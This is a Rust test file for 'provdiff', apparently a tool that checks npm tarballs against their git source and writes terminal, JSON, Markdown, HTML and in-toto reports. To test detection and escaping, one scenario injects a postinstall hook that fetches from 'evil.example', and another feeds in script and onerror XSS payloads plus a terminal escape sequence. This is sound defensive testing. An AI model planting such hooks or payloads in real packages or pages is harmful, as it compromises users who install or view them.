//! The reports of `provdiff diff` and `provdiff check`, end to end: snapshots of the terminal
//! (no colour: stdout is a pipe), JSON and Markdown reports for the ten scenarios people meet
//! most, the JSON reports validated against the schemas in `docs/`, and the in-toto statement.
//!
//! Each scenario commits a package to a repository with fixed commit times, packs it as npm
//! would, alters the packed files as a publisher might, and runs `provdiff diff package.tgz
//! repo.git@HEAD` in that directory: every input is relative, every id deterministic.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::path::Path;

use provdiff_npm::PackedFile;
use provdiff_testkit::RepoFile;
use support::{Pair, Scenario, provdiff, replace, widget_files};

fn set_content(files: &mut [PackedFile], path: &str, content: &[u8]) {
    replace(files, path, |bytes| *bytes = content.to_vec());
}

/// A minified bundle: one long line.
fn minified() -> String {
    let mut bundle = String::from("!function(e,t){\"use strict\";");
    for i in 0..40 {
        bundle.push_str(&format!("var a{i}=function(n){{return n*{i}+t.k{i}}};"));
    }
    bundle.push_str("e.widget=function(){return 42}}(this,{});\n");
    bundle
}

/// A pnpm monorepo whose widget depends on a workspace package and a catalog entry.
fn pnpm_monorepo() -> Vec<RepoFile> {
    vec![
        RepoFile::new(
            "package.json",
            "{\n  \"name\": \"monorepo\",\n  \"private\": true,\n  \"packageManager\": \"pnpm@10.34.9\"\n}\n",
        ),
        RepoFile::new("pnpm-workspace.yaml", "packages:\n  - packages/*\ncatalog:\n  lodash: ^4.17.21\n"),
        RepoFile::new("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"),
        RepoFile::new("LICENSE", "MIT License\n"),
        RepoFile::new(
            "packages/widget/package.json",
            "{\n    \"name\": \"widget\",\n    \"version\": \"1.2.3\",\n    \"main\": \"index.js\",\n    \"scripts\": {\"test\": \"node test.js\"},\n    \"dependencies\": {\"helper\": \"workspace:^\", \"lodash\": \"catalog:\"},\n    \"packageManager\": \"pnpm@10.34.9\",\n    \"license\": \"MIT\"\n}\n",
        ),
        RepoFile::new("packages/widget/index.js", "module.exports = require('helper');\n"),
        RepoFile::new("packages/helper/package.json", "{\"name\": \"helper\", \"version\": \"0.4.0\"}\n"),
        RepoFile::new("packages/helper/index.js", "module.exports = 42;\n"),
    ]
}

/// What `pnpm pack` 10.34.9 writes for that widget (see tests/check.rs).
const PNPM_WIDGET_MANIFEST: &str = "{\n  \"name\": \"widget\",\n  \"version\": \"1.2.3\",\n  \"main\": \"index.js\",\n  \"dependencies\": {\n    \"lodash\": \"^4.17.21\",\n    \"helper\": \"^0.4.0\"\n  },\n  \"license\": \"MIT\",\n  \"scripts\": {\n    \"test\": \"node test.js\"\n  },\n  \"packageManager\": \"pnpm@10.34.9\"\n}";

fn with(mut files: Vec<RepoFile>, extra: Vec<RepoFile>) -> Vec<RepoFile> {
    files.extend(extra);
    files
}

/// The ten scenarios, by name, with the exit code each must give.
fn scenarios() -> Vec<(&'static str, Pair, i32)> {
    let binary: Vec<u8> = (0u8..=255).cycle().take(700).collect();
    let mut tampered_binary = binary.clone();
    tampered_binary[300] ^= 0xff;
    let typescript = vec![
        RepoFile::new(
            "package.json",
            "{\n  \"name\": \"widget\",\n  \"version\": \"1.2.3\",\n  \"main\": \"dist/index.js\",\n  \"types\": \"dist/index.d.ts\",\n  \"files\": [\"dist\"],\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"prepare\": \"npm run build\"\n  }\n}\n",
        ),
        RepoFile::new("src/index.ts", "export const widget = (): number => 42;\n"),
        RepoFile::new("tsconfig.json", "{\"compilerOptions\": {\"outDir\": \"dist\", \"declaration\": true}}\n"),
        RepoFile::new(".gitignore", "dist\n"),
    ];
    vec![
        ("identical", Pair::new(&widget_files(), "", |_| {}), 0),
        (
            "equivalent",
            Pair::with_tgz(
                &widget_files(),
                "",
                |_| {},
                |tgz| {
                    // The same tar stream, deflated at another level.
                    let tar = provdiff_npm::read_tarball(tgz).unwrap().tar;
                    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::new(1));
                    std::io::Write::write_all(&mut encoder, &tar).unwrap();
                    encoder.finish().unwrap()
                },
            ),
            0,
        ),
        (
            "explained-pnpm-rewrite",
            Pair::new(&pnpm_monorepo(), "packages/widget", |files| {
                set_content(files, "package.json", PNPM_WIDGET_MANIFEST.as_bytes());
                files.push(PackedFile { path: "LICENSE".into(), mode: 0o644, content: b"MIT License\n".to_vec() });
            }),
            0,
        ),
        (
            "injected-postinstall",
            Pair::new(&widget_files(), "", |files| {
                replace(files, "package.json", |bytes| {
                    let text = String::from_utf8(bytes.clone()).unwrap().replace(
                        "\"test\": \"node test.js\"",
                        "\"test\": \"node test.js\",\n    \"postinstall\": \"node -e \\\"require('https').get('https://evil.example/x')\\\"\"",
                    );
                    *bytes = text.into_bytes();
                })
            }),
            1,
        ),
        (
            "modified-minified-file",
            Pair::new(&with(widget_files(), vec![RepoFile::new("dist/widget.min.js", minified())]), "", |files| {
                set_content(files, "dist/widget.min.js", minified().replace("return n*17+", "return n*17-").as_bytes())
            }),
            1,
        ),
        (
            "crlf-only",
            Pair::new(&widget_files(), "", |files| {
                replace(files, "index.js", |bytes| {
                    *bytes = String::from_utf8(bytes.clone()).unwrap().replace('\n', "\r\n").into_bytes()
                })
            }),
            1,
        ),
        (
            "binary-change",
            Pair::new(&with(widget_files(), vec![RepoFile::new("assets/logo.png", binary)]), "", |files| {
                set_content(files, "assets/logo.png", &tampered_binary)
            }),
            1,
        ),
        (
            "build-outputs",
            Pair::new(&typescript, "", |files| {
                for (path, content) in [
                    (
                        "dist/index.js",
                        "\"use strict\";\nexports.widget = () => 42;\n//# sourceMappingURL=index.js.map\n",
                    ),
                    ("dist/index.d.ts", "export declare const widget: () => number;\n"),
                    (
                        "dist/index.js.map",
                        "{\"version\":3,\"file\":\"index.js\",\"sources\":[\"../src/index.ts\"],\"mappings\":\"AAAa\"}",
                    ),
                ] {
                    files.push(PackedFile { path: path.into(), mode: 0o644, content: content.as_bytes().to_vec() });
                }
            }),
            3,
        ),
        ("only-in-source", Pair::new(&widget_files(), "", |files| files.retain(|file| file.path != "lib/util.js")), 1),
        (
            "executable-bit",
            Pair::new(&widget_files(), "", |files| {
                files.iter_mut().filter(|file| file.path == "lib/util.js").for_each(|file| file.mode = 0o755)
            }),
            1,
        ),
    ]
}

fn schema(name: &str) -> jsonschema::Validator {
    let text = fs_err::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs").join(name)).unwrap();
    let schema: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(schema["$schema"], "https://json-schema.org/draft/2020-12/schema", "{name}");
    jsonschema::draft202012::new(&schema).unwrap_or_else(|e| panic!("{name} is not a valid JSON Schema: {e}"))
}

fn assert_valid(validator: &jsonschema::Validator, report: &serde_json::Value, what: &str) {
    let errors: Vec<String> =
        validator.iter_errors(report).map(|error| format!("{} at {}", error, error.instance_path())).collect();
    assert!(errors.is_empty(), "{what} does not match its schema:\n{}\n{report:#}", errors.join("\n"));
}

fn settings() -> insta::Settings {
    let mut settings = insta::Settings::clone_current();
    settings.set_snapshot_path("snapshots");
    settings.set_prepend_module_to_snapshot(false);
    settings.add_filter(r#""version": "\d+\.\d+\.\d+[^"]*""#, r#""version": "[tool version]""#);
    settings
}

#[test]
fn the_reports_of_ten_scenarios() {
    let validator = schema("diff-report.schema.json");
    let settings = settings();
    for (name, pair, code) in scenarios() {
        let human = pair.diff(&["--markdown", "report.md"]);
        assert_eq!(human.code, code, "{name}:\n{}\n{}", human.stdout, human.stderr);
        assert!(human.stderr.is_empty(), "{name}: {}", human.stderr);
        let markdown = fs_err::read_to_string(pair.path("report.md")).unwrap();
        assert!(markdown.len() <= 60_000, "{name}: {} bytes of Markdown", markdown.len());
        let json = pair.diff(&["--json"]);
        assert_eq!(json.code, code, "{name}");
        let report = json.json();
        assert_valid(&validator, &report, name);
        // The file list accounts for every path of both sides.
        let files = report["files"].as_array().unwrap();
        let in_a = files.iter().filter(|file| file["in_package"] == true).count();
        assert_eq!(in_a as u64, report["a"]["files"].as_u64().unwrap(), "{name}");
        settings.bind(|| {
            insta::assert_snapshot!(format!("{name}.txt"), human.stdout);
            insta::assert_snapshot!(format!("{name}.md"), markdown);
            insta::assert_snapshot!(format!("{name}.json"), json.stdout);
        });
    }
}

#[test]
fn markdown_can_go_to_stdout_but_not_with_json() {
    let pair = Pair::new(&widget_files(), "", |files| set_content(files, "index.js", b"evil();\n"));
    let run = pair.diff(&["--markdown", "-"]);
    assert_eq!(run.code, 1);
    assert!(run.stdout.starts_with("## ❌ `package.tgz vs repo.git@HEAD`: **mismatch**\n"), "{}", run.stdout);
    assert!(
        run.stdout.contains("<details open><summary><code>index.js</code>: content-differs</summary>"),
        "{}",
        run.stdout
    );
    let run = pair.diff(&["--markdown", "-", "--json"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("both print to stdout"), "{}", run.stderr);
}

#[test]
fn markdown_stays_short_however_many_findings() {
    // 3,000 files only in the package, each with a long name, and a long diff.
    let long_file: String = (0..5_000).map(|i| format!("line {i}\n")).collect();
    let files = with(widget_files(), vec![RepoFile::new("long.txt", long_file.clone())]);
    let pair = Pair::new(&files, "", |files| {
        set_content(files, "long.txt", long_file.replace("line", "LINE").as_bytes());
        for i in 0..3_000 {
            files.push(PackedFile {
                path: format!("extra/{i:04}-a-file-with-a-rather-long-name-that-fills-the-table.js"),
                mode: 0o644,
                content: b"x".to_vec(),
            });
        }
    });
    let run = pair.diff(&["--markdown", "report.md", "--html", "report.html"]);
    assert_eq!(run.code, 1);
    let markdown = fs_err::read_to_string(pair.path("report.md")).unwrap();
    assert!(markdown.len() <= 60_000, "{} bytes", markdown.len());
    assert!(markdown.contains("more mismatch findings (see the JSON report)"), "{markdown}");
    assert!(markdown.contains("… 1 more line") || markdown.contains("more lines"), "{markdown}");
    // The terminal cuts the diff too, and counts what it left out.
    assert!(run.stdout.contains("more lines\n"), "{}", run.stdout);
    let html = fs_err::read_to_string(pair.path("report.html")).unwrap();
    assert!(html.len() < 5_000_000, "{} bytes of HTML", html.len());
    assert!(html.matches("class=\"file ").count() > 3_000, "every file is in the tree");
}

#[test]
fn a_verdict_statement_about_the_tarball() {
    let pair = Pair::new(&widget_files(), "", |files| set_content(files, "index.js", b"evil();\n"));
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_provdiff"));
    command
        .args(["diff", "package.tgz", &pair.source, "--attestation", "out/statement.json"])
        .env("SOURCE_DATE_EPOCH", "1700000000")
        .current_dir(pair.dir.path());
    fs_err::create_dir(pair.path("out")).unwrap();
    let output = command.output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", String::from_utf8_lossy(&output.stderr));
    let statement: serde_json::Value =
        serde_json::from_slice(&fs_err::read(pair.path("out/statement.json")).unwrap()).unwrap();
    let sha512 = provdiff_core::Sha512::digest(&fs_err::read(pair.path("package.tgz")).unwrap());
    assert_eq!(statement["_type"], "https://in-toto.io/Statement/v1");
    assert_eq!(statement["predicateType"], "https://provdiff.dev/verdict/v1");
    assert_eq!(
        statement["subject"],
        serde_json::json!([{"name": "pkg:npm/widget@1.2.3", "digest": {"sha512": sha512.to_hex()}}])
    );
    let predicate = &statement["predicate"];
    assert_eq!(predicate["verdict"], "mismatch");
    assert_eq!(predicate["timestamp"], "2023-11-14T22:13:20Z");
    assert_eq!(predicate["source"]["repository"], "repo.git");
    assert_eq!(predicate["source"]["commit"].as_str().unwrap().len(), 40);
    assert_eq!(predicate["tool"]["name"], "provdiff");
    assert_eq!(predicate["findings"][0]["code"], "content-differs");
    assert_eq!(predicate["findings"][0]["path"], "index.js");
    assert!(predicate["findings"][0].get("diff").is_none(), "diffs stay out of the statement");
    assert_valid(&schema("verdict-predicate.schema.json"), &statement, "the statement");
    // Nothing half-written is left beside it.
    let names: Vec<String> = fs_err::read_dir(pair.path("out"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(names, ["statement.json"]);

    // A statement needs a tarball to be about.
    let run = provdiff(&["diff", &pair.source, "package.tgz", "--attestation", "s.json"], pair.dir.path());
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("--attestation makes a statement about A's tarball"), "{}", run.stderr);
    // An unwritable destination is an error naming it.
    let run = pair.diff(&["--html", "missing-dir/report.html"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("missing-dir"), "{}", run.stderr);
}

#[test]
fn check_reports_match_their_schema() {
    let validator = schema("report.schema.json");
    let predicate = schema("verdict-predicate.schema.json");

    let identical = Scenario::new(&widget_files(), |_| {});
    let mismatch =
        Scenario::new(&widget_files(), |files| set_content(files, "lib/util.js", b"exports.double = (x) => x * 3;\n"));
    let unverified = Scenario::new(&widget_files(), |_| {});
    unverified.sign(|spec| spec.certificate_repository = Some("https://github.com/attacker/other".into()));
    let mut typescript = widget_files();
    typescript[0] = RepoFile::new(
        "package.json",
        "{\"name\":\"widget\",\"version\":\"1.2.3\",\"main\":\"dist/index.js\",\"scripts\":{\"prepare\":\"tsc\"}}\n",
    );
    typescript.push(RepoFile::new("src/index.ts", "export const x = 1;\n"));
    let inconclusive = Scenario::new(&typescript, |files| {
        files.push(PackedFile { path: "dist/index.js".into(), mode: 0o644, content: b"exports.x = 1;\n".to_vec() })
    });
    for (name, scenario, code) in [
        ("identical", &identical, 0),
        ("mismatch", &mismatch, 1),
        ("unverified", &unverified, 1),
        ("inconclusive", &inconclusive, 3),
    ] {
        let run = scenario.check(&[
            "--json",
            "--attestation",
            "statement.json",
            "--markdown",
            "report.md",
            "--html",
            "report.html",
        ]);
        assert_eq!(run.code, code, "{name}: {}\n{}", run.stdout, run.stderr);
        let report = run.json();
        assert_valid(&validator, &report, name);
        let statement: serde_json::Value =
            serde_json::from_slice(&fs_err::read(scenario.path("statement.json")).unwrap()).unwrap();
        assert_valid(&predicate, &statement, name);
        assert_eq!(statement["predicate"]["verdict"], report["verdict"], "{name}");
        assert_eq!(statement["subject"][0]["digest"]["sha512"], report["package"]["sha512"], "{name}");
        let markdown = fs_err::read_to_string(scenario.path("report.md")).unwrap();
        assert!(markdown.contains(&format!("**{}**", report["verdict"].as_str().unwrap())), "{name}: {markdown}");
        let html = fs_err::read_to_string(scenario.path("report.html")).unwrap();
        assert!(html.contains("id=\"verdict\""), "{name}");
        if name == "unverified" {
            // Unverified provenance is never linked.
            assert_eq!(statement["predicate"]["source"], serde_json::Value::Null);
            assert!(!html.contains("href=\"https://github.com/provdiff-tests/widget"), "{name}");
        } else {
            let commit = report["source"]["commit"].as_str().unwrap();
            assert!(
                html.contains(&format!("href=\"https://github.com/provdiff-tests/widget/commit/{commit}\"")),
                "{name}"
            );
            assert_eq!(statement["predicate"]["source"]["commit"], commit);
        }
    }

    // The human report: the summary first, and the exact files a rebuild would have to prove.
    let human = inconclusive.check(&[]);
    assert!(
        human.stdout.starts_with(
            "widget@1.2.3: inconclusive (7 files: 6 identical, 1 needs a rebuild)\n  files only in the package need a rebuild \
             to be proven (listed below)\n  1 file needs a rebuild to be proven:\n    dist/index.js\n"
        ),
        "{}",
        human.stdout
    );
}

#[test]
fn the_schemas_agree_on_what_they_share() {
    let read = |name: &str| -> serde_json::Value {
        serde_json::from_str(
            &fs_err::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs").join(name)).unwrap(),
        )
        .unwrap()
    };
    let (check, diff, predicate) =
        (read("report.schema.json"), read("diff-report.schema.json"), read("verdict-predicate.schema.json"));
    for name in ["tool", "verdict", "severity", "agreement", "finding", "file"] {
        assert_eq!(check["$defs"][name], diff["$defs"][name], "$defs/{name} differs between the two report schemas");
    }
    for name in ["tool", "verdict", "severity"] {
        assert_eq!(check["$defs"][name], predicate["$defs"][name], "$defs/{name} differs in the predicate schema");
    }
    // Every severity a finding can have is in the schemas.
    let severities = check["$defs"]["severity"]["enum"].as_array().unwrap();
    for code in provdiff_core::Code::ALL {
        assert!(severities.contains(&serde_json::to_value(code.severity()).unwrap()), "{code}");
    }
}

#[test]
fn hostile_names_and_contents_are_shown_not_obeyed() {
    let hostile_name = "lib/<img src=x onerror=alert(1)>|`@admin.js";
    let hostile_line = "</td></table><script>alert(1)</script>\u{1b}[2J```\n</details>\n<img src=x onerror=alert(2)>\n";
    let pair = Pair::new(&widget_files(), "", |files| {
        set_content(files, "index.js", hostile_line.as_bytes());
        files.push(PackedFile { path: hostile_name.into(), mode: 0o644, content: b"x".to_vec() });
    });
    let run = pair.diff(&["--markdown", "report.md", "--html", "report.html"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(!run.stdout.contains('\u{1b}'), "an escape sequence reached the terminal: {:?}", run.stdout);
    assert!(run.stdout.contains("␛[2J"), "{}", run.stdout);

    let html = fs_err::read_to_string(pair.path("report.html")).unwrap();
    for raw in ["<script", "<img", "</td></table>", "onerror=alert(1)>"] {
        assert!(!html.contains(raw), "{raw} is in the HTML report");
    }
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;|`@admin.js"), "the name is shown");
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;␛[2J"), "the line is shown");

    // In Markdown, HTML outside code blocks is only the report's own.
    let markdown = fs_err::read_to_string(pair.path("report.md")).unwrap();
    let mut fence: Option<String> = None;
    for line in markdown.lines() {
        let ticks: String = line.chars().take_while(|c| *c == '`').collect();
        match &fence {
            Some(open) if line.trim_end() == open => fence = None,
            Some(_) => {}
            None if ticks.len() >= 3 => fence = Some(ticks),
            None => {
                let mut rest = without_code_spans(line);
                for tag in ["<details open>", "<details>", "</details>", "<summary>", "</summary>", "<code>", "</code>"]
                {
                    rest = rest.replace(tag, "");
                }
                assert!(!rest.contains('<'), "raw HTML outside a code block: {line}");
                assert!(!rest.contains("@admin"), "a mention outside a code span: {line}");
            }
        }
    }
    assert!(fence.is_none(), "a code block is left open");
    assert!(markdown.contains("````diff\n"), "the fence is longer than the backticks inside: {markdown}");
}

/// `line` without its Markdown code spans (a run of backticks up to the next run as long), whose
/// content is literal text.
fn without_code_spans(line: &str) -> String {
    let mut out = String::new();
    let mut rest = line;
    while let Some(start) = rest.find('`') {
        out.push_str(&rest[..start]);
        let run = rest[start..].chars().take_while(|c| *c == '`').count();
        let after = &rest[start + run..];
        let closing = (0..after.len()).find(|&i| {
            after.is_char_boundary(i)
                && after[i..].starts_with(&"`".repeat(run))
                && !after[i + run..].starts_with('`')
                && (i == 0 || !after[..i].ends_with('`'))
        });
        match closing {
            Some(end) => rest = &after[end + run..],
            None => {
                out.push_str(&rest[start..]);
                return out;
            }
        }
    }
    out.push_str(rest);
    out
}
